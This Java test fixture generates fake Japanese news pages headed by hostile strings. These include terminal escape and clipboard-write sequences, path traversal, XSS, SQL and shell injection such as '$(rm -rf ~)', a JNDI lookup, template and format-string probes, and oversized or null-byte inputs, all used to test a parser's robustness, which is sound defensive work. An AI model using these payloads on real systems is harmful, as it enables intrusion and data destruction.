// Copyright 2026 The Kawaraban authors
// SPDX-License-Identifier: Apache-2.0

package org.kawaraban.enrich.hostile;

import java.util.ArrayList;
import java.util.List;

/** Headlines written for whoever makes an id, a query, a command, a path or a terminal's output of them. */
final class HostileTitles {
    private static final List<String> TITLES = List.of(
            "\u001B[2J\u001B[1;1H\u001B[31mあなたの端末は乗っ取られました",
            "\u001B]0;瓦版\u0007\u001B]52;c;cm0gLXJm\u0007という見出し",
            "\u009B31m\u0090q\u009C赤い見出し",
            "見出し\rerror: 出力は消えました",
            "\u202E\u2066反対に読む見出し\u2069",
            "\"}}\\n{\"delete\":{\"_index\":\"articles\"}}という見出し",
            "../../../etc/passwd を読む方法",
            "C:\\Windows\\System32\\drivers\\etc\\hosts を書く方法",
            "<script>alert('瓦版')</script>を伝える",
            "'; DROP TABLE articles; -- という名前の少年",
            "$(rm -rf ~) `reboot` ${HOME} を試した人",
            "${jndi:ldap://example.org/a} の穴が見つかる",
            "{{7*7}} #{7*7} <%= 7*7 %> を計算する",
            "=HYPERLINK(\"http://example.org\";\"瓦版\")",
            "%s %n %x %08d %99999999s という書式",
            "a".repeat(70_000),
            "見出し".repeat(30_000),
            "_all,-articles,*?\"<>| #,という索引",
            "\0見出し\0の\0間に\0何か\0がある",
            "…",
            "NULL",
            "CON.txt PRN AUX NUL COM1 という名前");

    private HostileTitles() {}

    static List<BadRecord> cases() {
        List<BadRecord> cases = new ArrayList<>();
        for (int i = 0; i < TITLES.size(); i++) {
            String page = TITLES.get(i) + " ― 2025年02月23日 20:04\n"
                    + ("資料館の見出し第" + i + "号は、読む人を驚かせるために書かれたという。専門家は慎重に読むよう求めている。\n").repeat(3);
            cases.add(BadRecord.page("title-" + i, page, BadRecord.RECORDS));
        }
        return cases;
    }
}
